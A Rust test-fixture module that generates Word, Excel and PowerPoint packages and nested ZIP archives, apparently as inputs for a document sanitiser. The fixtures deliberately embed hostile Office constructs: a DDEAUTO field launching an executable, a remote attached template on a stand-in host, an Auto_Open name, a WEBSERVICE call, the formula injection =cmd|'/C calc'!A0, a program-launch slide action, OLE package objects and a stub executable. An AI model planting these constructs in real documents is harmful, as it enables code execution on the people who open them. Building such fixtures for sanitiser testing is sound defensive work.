//! Office packages and archives.

use std::io::{Cursor, Write as _};

use sekimori::sanitise::Kind;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::{Seed, picture, text};

const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
const OFFICE: &str = "application/vnd.openxmlformats-officedocument.";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const NAMES: &str = "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
     xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"";

/// Name, content type behind `OFFICE` (or whole, or none), content.
type Part<'a> = (&'a str, &'a str, String);
/// Owner, type behind `REL`, target, external.
type Relation<'a> = (&'a str, &'a str, &'a str, bool);

fn package(parts: &[Part<'_>], relations: &[Relation<'_>], raw: &[(&str, &[u8])]) -> Vec<u8> {
    let package = "http://schemas.openxmlformats.org/package/2006";
    let mut types = format!(
        "{HEAD}<Types xmlns=\"{package}/content-types\"><Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"jpg\" ContentType=\"image/jpeg\"/>\
         <Default Extension=\"vml\" ContentType=\"{OFFICE}vmlDrawing\"/>\
         <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
    );
    for (name, content_type, _) in parts.iter().filter(|part| !part.1.is_empty()) {
        types +=
            &format!("<Override PartName=\"/{name}\" ContentType=\"{OFFICE}{content_type}+xml\"/>");
    }
    types += "</Types>";
    let mut entries = vec![("[Content_Types].xml".to_owned(), types.into_bytes())];
    let mut owners: Vec<&str> = relations.iter().map(|relation| relation.0).collect();
    owners.dedup();
    for owner in owners {
        let mut list = format!("{HEAD}<Relationships xmlns=\"{package}/relationships\">");
        for (at, (_, kind, target, external)) in relations
            .iter()
            .filter(|relation| relation.0 == owner)
            .enumerate()
        {
            let mode = if *external {
                " TargetMode=\"External\""
            } else {
                ""
            };
            list += &format!(
                "<Relationship Id=\"rId{}\" Type=\"{REL}/{kind}\" Target=\"{target}\"{mode}/>",
                at + 1
            );
        }
        list += "</Relationships>";
        let (folder, name) = owner.rsplit_once('/').unwrap_or(("", owner));
        let slash = if folder.is_empty() { "" } else { "/" };
        entries.push((
            format!("{folder}{slash}_rels/{name}.rels"),
            list.into_bytes(),
        ));
    }
    entries.extend(
        parts
            .iter()
            .map(|(name, _, content)| ((*name).to_owned(), content.clone().into_bytes())),
    );
    entries.extend(
        raw.iter()
            .map(|(name, content)| ((*name).to_owned(), content.to_vec())),
    );
    packed(&entries)
}

fn packed(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in entries {
        writer
            .start_file(name.as_str(), SimpleFileOptions::default())
            .expect("names differ");
        writer.write_all(content).expect("memory is written");
    }
    writer.finish().expect("memory is written").into_inner()
}

fn word() -> Vec<u8> {
    let body = format!(
        "{HEAD}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" {NAMES} \
         xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" \
         xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><w:body>\
         <w:p><w:pPr><w:pStyle w:val=\"Heading1\"/><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr>\
         <w:r><w:rPr><w:b/><w:sz w:val=\"32\"/><w:rFonts w:eastAsia=\"ＭＳ 明朝\"/></w:rPr><w:t xml:space=\"preserve\">見積書 ①㈱髙﨑</w:t></w:r></w:p>\
         <w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\a.exe</w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>\
         <w:fldSimple w:instr=\"PAGE\"><w:r><w:t>1</w:t></w:r></w:fldSimple>\
         <w:hyperlink r:id=\"rId2\"><w:r><w:t>リンク</w:t></w:r></w:hyperlink>\
         <w:ins w:id=\"1\" w:author=\"a\"><w:r><w:t>加筆</w:t></w:r></w:ins></w:p>\
         <w:tbl><w:tblPr><w:tblW w:w=\"0\" w:type=\"auto\"/></w:tblPr><w:tr><w:tc><w:p><w:r><w:t>表</w:t></w:r></w:p></w:tc></w:tr></w:tbl>\
         <w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"900000\" cy=\"600000\"/><wp:docPr id=\"1\" name=\"図\"/><a:graphic>\
         <a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:nvPicPr><pic:cNvPr id=\"0\" name=\"a\"/><pic:cNvPicPr/></pic:nvPicPr>\
         <pic:blipFill><a:blip r:embed=\"rId1\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>\
         <w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/></w:sectPr></w:body></w:document>"
    );
    package(
        &[("word/document.xml", "wordprocessingml.document.main", body)],
        &[
            ("", "officeDocument", "word/document.xml", false),
            ("word/document.xml", "image", "media/a.jpg", false),
            (
                "word/document.xml",
                "hyperlink",
                "https://www.example.jp/",
                true,
            ),
            (
                "word/document.xml",
                "attachedTemplate",
                "http://x.example.invalid/t.dotm",
                true,
            ),
        ],
        &[
            ("word/media/a.jpg", &picture::jpeg()),
            ("word/vbaProject.bin", b"VBA"),
        ],
    )
}

fn sheet() -> Vec<u8> {
    let main = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    let book = format!(
        "{HEAD}<workbook {main} {NAMES}><sheets><sheet name=\"表\" sheetId=\"1\" r:id=\"rId1\"/></sheets>\
         <definedNames><definedName name=\"_xlnm.Auto_Open\">表!$A$1</definedName></definedNames></workbook>"
    );
    let sheet = format!(
        "{HEAD}<worksheet {main} {NAMES}><dimension ref=\"A1:C2\"/><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c>\
         <c r=\"B1\"><f>SUM(C1:C2)*WEBSERVICE(\"http://x.example.invalid\")</f><v>3</v></c><c r=\"C1\" t=\"inlineStr\"><is><t>=cmd|'/C calc'!A0</t></is></c></row>\
         <row r=\"2\"><c r=\"A2\" t=\"b\"><v>1</v></c><c r=\"B2\"><f>VLOOKUP(A1,[1]表!A:B,2,FALSE)</f><v>-1.5E3</v></c></row></sheetData>\
         <mergeCells count=\"1\"><mergeCell ref=\"A1:A2\"/></mergeCells><hyperlinks><hyperlink ref=\"A1\" location=\"表!A1\"/></hyperlinks>\
         <drawing r:id=\"rId1\"/><legacyDrawing r:id=\"rId2\"/><oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId3\"/></oleObjects></worksheet>"
    );
    let drawing = format!(
        "{HEAD}<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" {NAMES}><xdr:twoCellAnchor><xdr:sp><xdr:nvSpPr>\
         <xdr:cNvPr id=\"1026\" name=\"a\" hidden=\"1\"/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:ext cx=\"0\" cy=\"0\"/></a:xfrm></xdr:spPr><xdr:txBody><a:p><a:r>\
         <a:t>済</a:t></a:r></a:p></xdr:txBody></xdr:sp></xdr:twoCellAnchor></xdr:wsDr>"
    );
    let strings = format!(
        "{HEAD}<sst {main} count=\"1\" uniqueCount=\"1\"><si><r><t>見積</t></r><r><t>書</t></r></si></sst>"
    );
    package(
        &[
            ("xl/workbook.xml", "spreadsheetml.sheet.main", book),
            ("xl/worksheets/sheet1.xml", "spreadsheetml.worksheet", sheet),
            (
                "xl/sharedStrings.xml",
                "spreadsheetml.sharedStrings",
                strings,
            ),
            ("xl/drawings/drawing1.xml", "drawing", drawing),
            ("xl/drawings/vmlDrawing1.vml", "", old_drawing()),
        ],
        &[
            ("", "officeDocument", "xl/workbook.xml", false),
            (
                "xl/workbook.xml",
                "worksheet",
                "worksheets/sheet1.xml",
                false,
            ),
            (
                "xl/workbook.xml",
                "sharedStrings",
                "sharedStrings.xml",
                false,
            ),
            (
                "xl/worksheets/sheet1.xml",
                "drawing",
                "../drawings/drawing1.xml",
                false,
            ),
            (
                "xl/worksheets/sheet1.xml",
                "vmlDrawing",
                "../drawings/vmlDrawing1.vml",
                false,
            ),
            (
                "xl/worksheets/sheet1.xml",
                "oleObject",
                "../embeddings/oleObject1.bin",
                false,
            ),
            (
                "xl/drawings/vmlDrawing1.vml",
                "image",
                "../media/a.jpg",
                false,
            ),
        ],
        &[
            ("xl/media/a.jpg", &picture::jpeg()),
            ("xl/embeddings/oleObject1.bin", b"OLE"),
        ],
    )
}

/// The drawing of the old kind beside a sheet or a slide, with the picture of
/// an object and a button.
fn old_drawing() -> String {
    let client = |kind: &str| {
        format!(
            "<x:ClientData ObjectType=\"{kind}\"><x:Anchor> 1, 2, 3, 4, 5, 6, 7, 8</x:Anchor></x:ClientData>"
        )
    };
    let (picture, button) = (client("Pict"), client("Checkbox"));
    format!(
        "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
         xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"_x0000_s1025\" filled=\"t\" stroked=\"t\">\
         <v:imagedata o:relid=\"rId1\"/>{picture}</v:shape><v:shape id=\"_x0000_s1026\">{button}</v:shape></xml>"
    )
}

fn slides() -> Vec<u8> {
    let p = "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"";
    let show = format!(
        "{HEAD}<p:presentation {p} {NAMES}><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst><p:sldSz cx=\"9144000\" cy=\"6858000\"/></p:presentation>"
    );
    let slide = format!(
        "{HEAD}<p:sld {p} {NAMES}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>\
         <p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"題\"><a:hlinkClick r:id=\"\" action=\"ppaction://program\"/></p:cNvPr><p:cNvSpPr/><p:nvPr><p:ph type=\"title\"/></p:nvPr></p:nvSpPr>\
         <p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang=\"ja-JP\" b=\"1\"/><a:t>見積書</a:t></a:r></a:p></p:txBody></p:sp>\
         <p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"4\" name=\"a\"/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x=\"1\" y=\"2\"/><a:ext cx=\"3\" cy=\"4\"/></p:xfrm>\
         <a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><p:oleObj spid=\"_x0000_s1025\" progId=\"Package\" r:id=\"rId1\"><p:embed/>\
         </p:oleObj></a:graphicData></a:graphic></p:graphicFrame></p:spTree></p:cSld>\
         <p:timing><p:tnLst><p:par><p:cTn id=\"1\"><p:childTnLst><p:cmd type=\"verb\" cmd=\"0\"/></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>"
    );
    package(
        &[
            (
                "ppt/presentation.xml",
                "presentationml.presentation.main",
                show,
            ),
            ("ppt/slides/slide1.xml", "presentationml.slide", slide),
            ("ppt/drawings/vmlDrawing1.vml", "", old_drawing()),
        ],
        &[
            ("", "officeDocument", "ppt/presentation.xml", false),
            ("ppt/presentation.xml", "slide", "slides/slide1.xml", false),
            (
                "ppt/slides/slide1.xml",
                "oleObject",
                "../embeddings/oleObject1.bin",
                false,
            ),
            (
                "ppt/slides/slide1.xml",
                "vmlDrawing",
                "../drawings/vmlDrawing1.vml",
                false,
            ),
            (
                "ppt/drawings/vmlDrawing1.vml",
                "image",
                "../media/a.jpg",
                false,
            ),
        ],
        &[
            ("ppt/media/a.jpg", &picture::jpeg()),
            ("ppt/embeddings/oleObject1.bin", b"OLE"),
        ],
    )
}

pub(super) fn seeds() -> Vec<Seed> {
    vec![
        Seed::new("a.docm", Kind::Word, word()),
        Seed::new("b.xlsx", Kind::Sheet, sheet()),
        Seed::new("c.pptx", Kind::Slides, slides()),
    ]
}

pub(super) fn archives() -> Vec<Seed> {
    let mut members: Vec<(String, Vec<u8>)> = text::seeds()
        .into_iter()
        .map(|seed| (seed.name, seed.bytes))
        .collect();
    members.push(("図/写真.jpg".to_owned(), picture::jpeg()));
    let inner = packed(&members[..3]);
    members.truncate(4);
    members.push(("inner.zip".to_owned(), inner.clone()));
    members.push(("b.xlsx".to_owned(), sheet()));
    members.push(("x.exe".to_owned(), b"MZ\x90\0".to_vec()));
    vec![
        Seed::new("a.zip", Kind::Zip, packed(&members)),
        Seed::new("b.zip", Kind::Zip, inner),
    ]
}
